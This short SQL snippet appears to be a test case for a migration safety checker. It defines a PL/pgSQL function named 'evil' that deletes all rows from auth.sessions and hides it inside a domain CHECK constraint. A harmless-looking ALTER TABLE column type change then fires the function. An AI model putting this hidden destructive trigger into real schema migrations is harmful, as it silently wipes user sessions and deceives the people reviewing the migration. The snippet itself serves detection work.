-- So does this one by its last word.
-- object: table auth.sessions
CREATE FUNCTION evil(int) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN DELETE FROM auth.sessions; RETURN true; END $$;
CREATE DOMAIN finalize AS int CHECK (evil(VALUE))
-- next revision
-- in: alone
ALTER TABLE scratch ADD COLUMN partition int, ALTER n TYPE finalize
